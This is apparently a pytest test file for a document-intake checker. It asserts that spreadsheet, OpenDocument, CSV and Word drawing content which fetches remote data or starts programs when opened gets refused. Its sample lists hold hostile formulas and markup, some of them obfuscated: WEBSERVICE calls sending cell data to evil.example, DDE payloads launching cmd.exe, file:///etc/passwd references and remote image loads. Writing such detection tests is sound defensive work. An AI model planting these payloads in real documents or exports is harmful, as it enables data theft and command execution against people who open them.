"""S33: formulas and drawings of documents that fetch or start something when the document is opened."""

from __future__ import annotations

import time
import tracemalloc

import pytest

from crm.files.intake import check
from crm.files.rules.formulas import fetches, table_fetches
from tests.abuse.test_s30_documents import TEXT
from tests.files import samples
from tests.files.samples import refused

TYPES = samples.TYPES.replace("wordprocessingml.document", "spreadsheetml.sheet")
SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1">{}'
    "</c></row></sheetData></worksheet>"
)
OPEN = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0">{}</office:document-content>'
)
DRAWING = (
    '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:p>{}</w:p></w:hdr>'
)
FETCHING = [
    'WEBSERVICE("http://evil.example/?q="&A2)',
    '_xlfn.WEBSERVICE ("http://evil.example/")',
    '1+_xlfn._xlws.image("https://evil.example/x.png")',
    'IF(A1="(",RTD("prog.id",,"x"),0)',
    "cmd|'/c calc'!A0",
    "MSEXCEL|'\\..\\..\\cmd.exe'!_xlbgnm.A1",
    "[1]Sheet1!A1",
    "SUM('[3]Other sheet'!A1:A9)",
    "'http://evil.example/[a.xlsx]Sheet1'!$A$1",
    "[Book1.xlsx]Sheet1!A1",
    """'a"'!A1&WEBSERVICE("http://evil.example/")""",
    """'it''s "'!A1+RTD("prog.id",,"x")""",
    "cmd|'/C calc '' !A0",
    "cmd | topic !A0",
    "'cmd|/c calc'!A0",
    "'a.ods'#$Sheet1.A1",
    """INDIRECT("'http://evil.example/[a.xlsx]Sheet1'!A1")""",
    """"it's"&WEBSERVICE("http://evil.example/")""",
]
HARMLESS = [
    'SUM(A1:A9)&"WEBSERVICE(1)"',
    'HYPERLINK("https://www.un.org/","cmd|a!b")',
    "SUM(Table1[Amount])+Sheet2!A1",
    "Table1[[#This Row],[Days]]*2",
    "SUM(Table1[2020])+Sheet2!A1",
    "[0]!Total",
    "'Sheet [old'!A1",
    "IMAGINARY(A1)+RECALL(2)",
    "IF(A1='It''s a sheet'!B2,{1,2|3,4},0)",
    'INDIRECT("A"&ROW())',
    "SUM('[0]Sheet'!A1)",
    "A1#+COUNT(B2#)",
]


def escaped(words: str) -> str:
    return words.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def workbook(part: str, name: str = "xl/worksheets/sheet1.xml") -> bytes:
    return samples.docx({name: part}, types=TYPES)


@pytest.mark.parametrize("formula", FETCHING)
def test_s33_no_formula_of_a_workbook_fetches_anything(formula: str) -> None:
    words = escaped(formula)
    letters = "".join(f"&#{ord(char)};" for char in formula)
    pieces = f"{words[:3]}<!-- -->{words[3:]}" if "&" not in words[:6] else words
    for inside in (words, letters, pieces, f"<![CDATA[{formula}]]>"):
        for place in ("f", "formula1", "definedName"):
            part = SHEET.format(f"<{place}>{inside}</{place}>")
            assert "A formula in the document fetches" in refused(workbook(part), "a.xlsx")
    wide = SHEET.format(f"<x:f xmlns:x='urn:x'>{words}</x:f>").encode("utf-16")
    assert "A formula in the document fetches" in refused(samples.docx({"xl/a.bin": wide}, types=TYPES), "a.xlsx")


@pytest.mark.parametrize("formula", HARMLESS)
def test_s33_other_formulas_stay(formula: str) -> None:
    assert not fetches(formula)
    assert check(workbook(SHEET.format(f"<f>{escaped(formula)}</f>")), "a.xlsx")
    assert check(workbook(SHEET.format(f"<v>{escaped(formula)}</v>")), "a.xlsx")


@pytest.mark.parametrize(
    "formula",
    [
        'of:=WEBSERVICE("http://evil.example/")',
        'of:=COM.MICROSOFT.WEBSERVICE("http://evil.example/")',
        'of:=DDE("soffice";"a.ods";"a1")',
        "of:=['file:///etc/passwd'#$Sheet1.A1]",
        "of:=[&apos;http://evil.example/a.ods&apos;#$Sheet1.A1]",
        "of:=SUM('\\\\evil\\a.ods'#$Sheet1.A1)",
    ],
)
def test_s33_nor_does_one_of_an_open_document(formula: str) -> None:
    words = formula.replace('"', "&quot;")
    for place in ("table-cell", "named-expression"):
        kind = "formula" if place == "table-cell" else "expression"
        body = OPEN.format(f'<table:{place} table:{kind}="{words}"/>')
        assert "A formula in the document fetches" in refused(samples.odt({"content.xml": body}), "a.odt")
    plain = OPEN.format('<table:table-cell table:formula="of:=SUM([.A1:.A9];[$Other.B1])"/>')
    assert check(samples.odt({"content.xml": plain}), "a.odt")


@pytest.mark.parametrize("part", ["word/header1.xml", "word/document.xml", "xl/drawings/vmlDrawing1.vml"])
@pytest.mark.parametrize(
    "drawing",
    [
        '<v:imagedata src="http://evil.example/x.png"/>',
        '<v:shape><v:imagedata src="&#47;&#47;evil.example/x.png"/></v:shape>',
        '<v:imagedata o:href="file:///\\\\evil\\x.png"/>',
        '<v:imagedata r:id="rId1" r:href="rId2"/>',
        '<v:fill src="\\\\evil\\share\\x.png" type="frame"/>',
        '<v:stroke o:althref="https://evil.example/x"/>',
        '<a:blip r:link="rId9"/>',
    ],
)
def test_s33_no_drawing_loads_its_picture_from_elsewhere(part: str, drawing: str) -> None:
    assert "fetches" in refused(samples.docx({part: DRAWING.format(drawing)}), "a.docx")
    assert "fetches" in refused(samples.docx({part: DRAWING.format(drawing).encode("utf-16")}), "a.docx")


def test_s33_drawings_that_hold_their_picture_or_are_clicked_stay() -> None:
    for drawing in (
        '<v:imagedata r:id="rId1" o:title="Arms"/>',
        '<v:shape href="https://www.un.org/"><v:imagedata src="media/1.png"/></v:shape>',
        '<v:formulas><v:f eqn="if lineDrawn pixelLineWidth 0"/></v:formulas>',
        '<a:blip r:embed="rId1" r:link=""/>',
    ):
        assert check(samples.docx({"word/header1.xml": DRAWING.format(drawing)}), "a.docx")


@pytest.mark.parametrize("mark", [",", ";", "\t"])
def test_s33_no_cell_of_a_table_in_plain_text_does(mark: str) -> None:
    for formula in ('=WEBSERVICE("http://evil.example/")', " +cmd|'/c calc'!A0", "@[1]Sheet1!A1", "-RTD(1)"):
        quoted = '"' + formula.replace('"', '""') + '"'
        assert "A cell of the file is a formula" in refused(f"a{mark}{quoted}{mark}b\n".encode(), "a.csv")
    assert "A cell of the file is a formula" in refused(f"sep=^\na^=RTD(1)^b{mark}\n".encode(), "a.csv")
    for cell in ("'=WEBSERVICE(1)", "call (us)", "=SUM(A1)", "see [1] Sheet!"):
        assert check(f"a{mark}{cell}\n".encode(), "a.csv")
    assert check(b"- call (with the minister)\n", "a.txt")


def test_s36_reading_formulas_takes_seconds_at_most() -> None:
    begun = time.process_time()
    rows = "".join(f"<c><f>SUM(A{one * 7919}:B{one * 104729})+T[Days]</f></c>" for one in range(150_000))
    assert check(workbook(SHEET.format(rows)), "a.xlsx")
    long = "['" + "[" * 2_000 + "a" * 2_000 + "com." * 2_000
    assert check(workbook(SHEET.format(f"<f>{long}</f>")), "a.xlsx")
    assert check(samples.docx({"word/a.xml": TEXT.format("<a/>" * 10_000)}), "a.docx")
    assert time.process_time() - begun < 20


@pytest.mark.parametrize(
    "piece", ["a", "a.", "a|", "|'", "'|", '"a', '""', "''", "['", "[[", "]", "[a]a ", "a.a(", "!", "'[", "!'", "#'"]
)
def test_s36_no_formula_takes_longer_than_its_length(piece: str) -> None:
    """What grows with the square of the length would take minutes here."""
    begun = time.process_time()
    for tail in ("", "'", '"', "|"):
        fetches(piece * 60_000 + tail)
    assert time.process_time() - begun < 20


def test_s36_a_large_table_takes_no_more_memory_than_its_size() -> None:
    tracemalloc.start()
    table_fetches('=RTD;"="' + "a" * 2_000_000)
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 60_000_000
